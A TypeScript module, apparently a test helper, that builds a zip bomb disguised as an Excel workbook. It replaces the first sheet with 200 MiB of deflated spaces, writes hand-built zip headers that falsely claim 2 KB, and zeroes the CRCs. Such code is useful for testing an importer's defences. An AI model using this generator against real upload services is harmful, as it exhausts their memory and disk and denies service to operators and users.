import zlib from 'node:zlib';
import { unzipSync } from 'fflate';

export const MiB = 1024 * 1024;

/** `size` bytes of spaces deflated at level 9 (~1000:1), fed a mebibyte at a time. */
async function deflatedSpaces(size: number): Promise<Buffer> {
  const deflate = zlib.createDeflateRaw({ level: 9 });
  const out: Buffer[] = [];
  deflate.on('data', (c: Buffer) => out.push(c));
  const done = new Promise((resolve, reject) => deflate.on('end', resolve).on('error', reject));
  const block = Buffer.alloc(MiB, 0x20);
  for (let left = size; left > 0; left -= MiB) {
    if (!deflate.write(left >= MiB ? block : block.subarray(0, left))) await new Promise((r) => deflate.once('drain', r));
  }
  deflate.end();
  await done;
  return Buffer.concat(out);
}

interface Entry {
  name: string;
  method: 0 | 8;
  data: Buffer;
  /** The uncompressed size the headers state. */
  statedSize: number;
}

/** A zip written entry by entry, saying in both its headers whatever `statedSize` each entry gives. */
function zipOf(entries: Entry[]): Buffer {
  const locals: Buffer[] = [];
  const centrals: Buffer[] = [];
  let offset = 0;
  for (const e of entries) {
    const name = Buffer.from(e.name);
    const local = Buffer.alloc(30);
    local.writeUInt32LE(0x04034b50, 0);
    local.writeUInt16LE(20, 4);
    local.writeUInt16LE(e.method, 8);
    local.writeUInt16LE(0x21, 12); // 1980-01-01
    local.writeUInt32LE(e.data.length, 18);
    local.writeUInt32LE(e.statedSize, 22);
    local.writeUInt16LE(name.length, 26);
    const central = Buffer.alloc(46);
    central.writeUInt32LE(0x02014b50, 0);
    central.writeUInt16LE(20, 4);
    central.writeUInt16LE(20, 6);
    central.writeUInt16LE(e.method, 10);
    central.writeUInt16LE(0x21, 14);
    central.writeUInt32LE(e.data.length, 20);
    central.writeUInt32LE(e.statedSize, 24);
    central.writeUInt16LE(name.length, 28);
    central.writeUInt32LE(offset, 42);
    locals.push(local, name, e.data);
    centrals.push(central, name);
    offset += local.length + name.length + e.data.length;
  }
  const directory = Buffer.concat(centrals);
  const end = Buffer.alloc(22);
  end.writeUInt32LE(0x06054b50, 0);
  end.writeUInt16LE(entries.length, 8);
  end.writeUInt16LE(entries.length, 10);
  end.writeUInt32LE(directory.length, 12);
  end.writeUInt32LE(offset, 16);
  return Buffer.concat([...locals, directory, end]);
}

/**
 * A zip bomb dressed as an import: `workbook`'s parts as they are, except its first sheet, which
 * becomes `size` bytes of spaces (200 MiB deflate to ~200 KB) while the zip's headers claim 2 KB.
 * CRCs are left 0: no reader checks them before it has inflated everything.
 */
export async function xlsxBomb(workbook: Uint8Array, size = 200 * MiB): Promise<Buffer> {
  const parts = unzipSync(workbook);
  const bomb = await deflatedSpaces(size);
  return zipOf(
    Object.entries(parts).map(([name, data]) =>
      name === 'xl/worksheets/sheet1.xml'
        ? { name, method: 8 as const, data: bomb, statedSize: 2048 }
        : { name, method: 0 as const, data: Buffer.from(data), statedSize: data.length },
    ),
  );
}
